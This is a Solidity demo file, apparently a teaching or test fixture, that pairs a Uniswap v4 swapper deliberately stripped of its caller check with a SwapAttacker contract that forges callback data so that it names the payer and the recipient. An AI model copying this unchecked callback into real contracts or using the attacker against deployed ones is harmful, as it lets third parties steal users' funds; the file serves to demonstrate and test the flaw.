// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {IPoolManager} from '@uniswap/v4-core/src/interfaces/IPoolManager.sol';
import {IUnlockCallback} from '@uniswap/v4-core/src/interfaces/callback/IUnlockCallback.sol';
import {PoolSwapper} from './PoolSwapper.sol';

/// @notice PoolSwapper without its check. It exists to be attacked: never deploy it.
contract UncheckedSwapper is PoolSwapper {
    constructor(IPoolManager manager_) PoolSwapper(manager_) {}

    // #region demo-only unchecked
    // demo-only: whoever calls this names the payer, and the recipient of what the payer paid for.
    function unlockCallback(bytes calldata data) external override returns (bytes memory) {
        return swapAndSettle(data);
    }
    // #endregion unchecked
}

// #region attacker
/// @notice Unlocks PoolManager itself, and calls the callback of another contract.
contract SwapAttacker is IUnlockCallback {
    IPoolManager public immutable manager;

    constructor(IPoolManager manager_) {
        manager = manager_;
    }

    function attack(IUnlockCallback target, bytes calldata data) external {
        manager.unlock(abi.encode(target, data));
    }

    function unlockCallback(bytes calldata data) external returns (bytes memory) {
        require(msg.sender == address(manager), 'not PoolManager');
        (IUnlockCallback target, bytes memory forged) = abi.decode(data, (IUnlockCallback, bytes));
        return target.unlockCallback(forged);
    }
}
// #endregion attacker
